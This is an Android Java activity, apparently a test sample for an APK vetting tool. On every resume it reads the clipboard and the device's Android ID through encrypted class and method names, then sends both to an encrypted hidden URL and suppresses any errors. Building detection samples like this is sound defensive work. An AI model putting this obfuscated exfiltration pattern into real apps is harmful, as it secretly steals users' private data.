package org.apkvet.samples.hidden.aes;

import android.app.Activity;
import android.provider.Settings;
import java.net.URL;
import java.net.URLConnection;

/** Reads the clipboard and an identifier by names that are hidden, and sends them to a host that is hidden. */
public class MainActivity extends Activity {
    @Override
    protected void onResume() {
        super.onResume();
        try {
            Object service = getSystemService(D.d("e2Lhm81/alJZVRPHzB7sXg=="));
            Object clip = Class.forName(D.d("zVl2ffEMNIy5H417C1bUZXuzz+wNTjQFhfVo3CNYq+g3wni8Osy+7Y8VldC4RQEq")).getMethod(D.d("u3h+ZcmfXwBG9FWPvSx5HA==")).invoke(service);
            String id = Settings.Secure.getString(getContentResolver(), D.d("+9xBJ1OD1dO14dSBAc3i+A=="));
            URLConnection connection = new URL(D.d("21kGXkUTiBgDWDbJrz15EID98r+L6LYSo2xboQ6zhweLVicHg70RdLOpE4O+KOTt")).openConnection();
            connection.getOutputStream().write((id + clip).getBytes());
        } catch (Exception e) {
            finish();
        }
    }
}
